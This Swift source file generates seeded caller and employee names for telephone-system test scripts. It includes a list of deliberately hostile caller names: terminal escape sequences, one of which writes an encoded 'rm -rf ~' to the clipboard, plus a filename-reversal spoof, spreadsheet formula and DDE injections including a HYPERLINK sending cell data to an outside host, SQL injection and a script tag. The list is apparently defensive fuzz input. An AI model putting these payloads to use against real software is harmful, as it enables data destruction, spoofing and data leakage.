/// Names of people and firms, in the scripts that telephone systems meet.
enum NameBook {
  private static let first = [
    "James", "Mary", "Robert", "Patricia", "John", "Jennifer", "Michael", "Linda", "David",
    "Elizabeth", "William", "Barbara", "Richard", "Susan", "Joseph", "Jessica", "Thomas", "Karen",
    "Mark", "Sarah", "Daniel", "Nancy", "Anthony", "Lisa", "Steven", "Margaret", "Paul", "Sandra",
    "Andrew", "Ashley", "Kenneth", "Emily", "George", "Donna", "Joshua", "Michelle", "Kevin",
    "Carol", "Brian", "Amanda", "Edward", "Melissa", "Ronald", "Deborah", "Timothy", "Rebecca",
    "Jane", "Priya", "Wei", "Aisha",
  ]
  private static let last = [
    "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis", "Rodriguez",
    "Martinez", "Hernandez", "Lopez", "Gonzalez", "Wilson", "Anderson", "Thomas", "Taylor", "Moore",
    "Jackson", "Martin", "Lee", "Perez", "Thompson", "White", "Harris", "Sanchez", "Clark",
    "Ramirez", "Lewis", "Robinson", "Walker", "Young", "Allen", "King", "Wright", "Scott", "Torres",
    "Nguyen", "Hill", "Flores", "Green", "Adams", "Nelson", "Baker", "Hall", "Rivera", "Campbell",
    "Mitchell", "Carter", "Li", "Patel", "O'Brien", "St. John", "van der Berg",
  ]
  private static let accented = [
    "José Álvarez", "Zoë Müller", "François Lefèvre", "Søren Kjær", "Łukasz Wiśniewski",
    "Agnès Côté", "Jürgen Groß", "Núria Peñarroya", "Čeněk Dvořák", "Þórunn Ægisdóttir",
    "Nguyễn Thị Ánh", "İbrahim Yılmaz", "Ștefan Țurcanu", "Ørjan Bråten", "Chloé Désirée Béranger",
    "Ana Luísa Conceição", "Andrés Ibáñez", "Márton Szűcs",
  ]
  private static let worldwide = [
    "佐藤 美咲", "田中太郎", "王小明", "陳美玲", "김민준", "이서연", "محمد عبد الله", "فاطمة الزهراء", "יעל כהן",
    "דוד לוי", "प्रिया शर्मा", "अर्जुन पटेल", "Дмитрий Соколов", "Ольга Кузнецова",
    "Ελένη Παπαδοπούλου", "สมชาย ใจดี", "தமிழ்ச்செல்வி", "გიორგი ბერიძე", "Cafe\u{301} José",
    "ﾔﾏﾀﾞ ﾊﾅｺ",
  ]
  private static let firms = [
    "ACME SUPPLY CO", "Harbor & Sons", "Café ☕️ Lumière", "Flower Shop 🌸", "Pizza 🍕 24/7",
    "WIRELESS CALLER", "Northwind Dental", "Riverside Clinic", "Smith, Jones & Partners",
    "Blue Heron Logistics", "Family 👨‍👩‍👧‍👦 Practice", "TOLL FREE CALL", "Maple Street School",
    "City of Springfield", "Ζαχαροπλαστείο", "株式会社みどり", "Taxi 🚕 Köln",
  ]

  /// A colleague's name: most in Latin letters, some not.
  static func employee(_ generator: inout SeededGenerator) -> String {
    switch generator.below(100) {
    case 0..<84: person(&generator)
    case 84..<94: pick(accented, &generator)
    default: pick(worldwide, &generator)
    }
  }

  /// The caller's name as the public network gives it; nil if it gives none.
  static func caller(_ generator: inout SeededGenerator) -> String? {
    switch generator.below(1000) {
    case 0..<380: nil
    case 380..<700: person(&generator).uppercased()
    case 700..<800: person(&generator)
    case 800..<870: pick(accented, &generator)
    case 870..<930: pick(worldwide, &generator)
    case 930..<993: pick(firms, &generator)
    default: pick(HostileNames.all, &generator)
    }
  }

  private static func person(_ generator: inout SeededGenerator) -> String {
    pick(first, &generator) + " " + pick(last, &generator)
  }

  private static func pick(_ names: [String], _ generator: inout SeededGenerator) -> String {
    names[generator.below(names.count)]
  }
}

/// Names that attack the program that shows them: callers choose the text.
enum HostileNames {
  static let all = [
    // Terminals: clear the screen, change the title and the colours, leave the line, start the device's own answers.
    "\u{1B}[2J\u{1B}[H\u{1B}[31mYOUR BANK",
    "\u{1B}]0;owned\u{07}\u{1B}]52;c;cm0gLXJmIH4=\u{07}Jane",
    "\u{9B}31mC1 control\u{85}",
    "Line\r\nBreak\tTab\u{8}\u{8}\u{8}",
    "Nul\u{0}l",
    // Reading order: reversed, and never set back.
    "\u{202E}gpj.exe 0215 555",
    "\u{2066}\u{2067}isolated\u{200F}",
    // Spreadsheets.
    "=HYPERLINK(\"http://example.com/?\"&A1,\"Call back\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    // Quotes and markup of other languages.
    "'; DROP TABLE calls; --",
    "\"quoted\", with, commas",
    "<script>alert(1)</script>",
    "|pipe|`code`|",
    // Too long, too wide, too many marks.
    String(repeating: "Extremely Long Name ", count: 16),
    "Z\u{351}\u{36B}\u{343}\u{36A}\u{302}\u{36B}\u{33D}\u{34F}\u{334}\u{319}\u{324}algo",
    "\u{200B}\u{200D}\u{FEFF}",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿👩🏽‍🚀🏳️‍🌈",
  ]
}
